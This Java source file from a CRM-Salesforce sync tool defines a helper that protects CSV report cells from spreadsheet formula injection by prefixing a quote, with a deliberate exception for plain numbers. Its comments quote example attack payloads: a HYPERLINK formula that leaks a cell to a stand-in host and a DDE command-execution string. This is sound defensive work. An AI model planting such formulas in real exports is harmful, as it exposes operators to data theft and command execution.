/*
 * Copyright 2026 the crm-salesforce-sync authors.
 */
package com.crmsync.report;

import java.util.regex.Pattern;

/**
 * Keeps a CSV cell from being run as a formula when an operator opens the file in a
 * spreadsheet (OWASP's "CSV Injection"). Values in the report come from the CRM and from
 * Salesforce, so anyone who can edit a lead could otherwise plant
 * {@code =HYPERLINK("http://evil.test/?"&A1,"x")} in the operator's spreadsheet.
 * <p>
 * A text that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage
 * return is neutralised as OWASP describes: a single quote is put in front (the
 * spreadsheet shows it as text) and the cell is written quoted.
 * <p>
 * One exception, on purpose: a text that is exactly a plain decimal number (such as
 * {@code -42} or {@code -1500.25}) is written as it is. The value columns of the report
 * ({@code crm_value}, {@code new_value}, ...) carry whatever type the field has, numbers
 * included; a spreadsheet reads such a cell as that number, which runs nothing, and a
 * quote in front would turn an operator's negative amount or score into text that no
 * longer sorts or sums. Anything more than the bare number ({@code -1+2},
 * {@code -2+3+cmd|' /C calc'!A0}) is neutralised.
 */
final class SpreadsheetCells {

	/** What a spreadsheet takes as the start of a formula (OWASP, CSV Injection). */
	private static final String FORMULA_STARTS = "=+-@\t\r";

	/** A bare decimal number: read as a number, never as a formula. */
	private static final Pattern PLAIN_NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?");

	private SpreadsheetCells() {
	}

	/**
	 * Whether a spreadsheet would read this text as a formula.
	 * @param text the cell's text
	 * @return {@code true} when it must be neutralised
	 */
	static boolean startsFormula(String text) {
		return !text.isEmpty() && FORMULA_STARTS.indexOf(text.charAt(0)) >= 0 && !PLAIN_NUMBER.matcher(text).matches();
	}

	/**
	 * The text a spreadsheet shows as it is: a single quote in front.
	 * @param text a text for which {@link #startsFormula(String)} holds
	 * @return the neutralised text (to be written quoted)
	 */
	static String neutralise(String text) {
		return "'" + text;
	}

}
